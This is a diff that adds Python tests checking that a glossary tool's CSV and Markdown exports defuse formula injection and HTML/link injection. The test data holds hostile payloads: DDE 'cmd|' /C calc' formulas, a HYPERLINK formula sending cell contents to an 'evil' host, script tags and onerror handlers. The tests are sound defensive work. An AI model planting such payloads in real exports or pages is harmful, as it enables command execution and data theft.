@@ -107,3 +107,37 @@ def test_check_names_a_seed_that_is_not_utf8(tmp_path):
     result = CliRunner().invoke(cli.cli, ["check", "--corpus", str(corpus)])
     assert result.exit_code == 1
     assert result.stderr.startswith("glossary-search: error: ") and "seed.txt:2: not UTF-8 text" in result.stderr
+
+
+def _groups(*definitions: str, term: str = "Callback"):
+    from glossary_search.types import ConceptGroup, Entry
+
+    entries = tuple(Entry(glossary=f"g{n}", position=1, term=term, definition=d) for n, d in enumerate(definitions))
+    return [ConceptGroup(term, entries, 1.0, "identical", ())]
+
+
+@pytest.mark.parametrize("payload", ["=HYPERLINK(\"http://evil/\"&A1,\"click\")", "+1+cmd|' /C calc'!A0",
+                                     "-2+3", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "\uff1d1+1"])
+def test_csv_export_defuses_formulas(payload):
+    import csv
+    import io
+
+    from glossary_search.report import to_csv
+
+    rows = list(csv.DictReader(io.StringIO(to_csv(_groups(payload, "safe text", term=payload)))))
+    assert [r["definition"] for r in rows] == ["'" + payload, "safe text"]
+    assert {r["term"] for r in rows} == {"'" + payload} and rows[0]["canonical"] == "'" + payload
+    assert rows[0]["score"] == "1.000" and rows[0]["group"] == "1"  # our own numbers stay numbers
+
+
+def test_markdown_export_escapes_html_links_images_and_urls():
+    from glossary_search.report import to_markdown
+
+    hostile = ('<script>alert(1)</script> <img src=x onerror=alert(1)> ![r](http://evil/x.png) '
+               '[log in](http://evil/phish) http://evil.example/a www.evil.example <http://evil/> a | b *em*')
+    text = to_markdown(_groups(hostile, "plain", term="<b>Term</b> [x](http://evil/t)"))
+    for raw in ("<script", "<img", "<b>", "<http", "![", "](", "http://", "www.evil"):
+        assert raw not in text, raw
+    assert "&lt;script&gt;" in text and "a \\| b" in text and "\\*em\\*" in text
+    rows = [line for line in text.splitlines() if line.startswith(("| g0 ", "| g1 "))]
+    assert len(rows) == 2 and all(line.count(" | ") == 2 for line in rows)  # a "|" in the text adds no column
